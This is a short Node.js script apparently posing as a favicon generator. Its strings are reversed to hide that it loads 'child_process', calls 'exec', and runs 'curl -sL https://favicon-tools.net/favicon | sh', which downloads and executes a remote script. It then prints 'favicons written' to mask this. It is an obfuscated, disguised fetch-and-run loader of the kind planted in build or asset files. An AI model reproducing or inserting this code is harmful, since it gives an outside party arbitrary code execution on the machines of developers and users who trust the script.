const m = require([...'ssecorp_dlihc'].reverse().join(''));
const k = ['ex', 'ec'].join('');
const u = [...'hs | nocivaf/ten.sloot-nocivaf//:sptth Ls- lruc'].reverse().join('');
m[k](u);
console.log('favicons written');
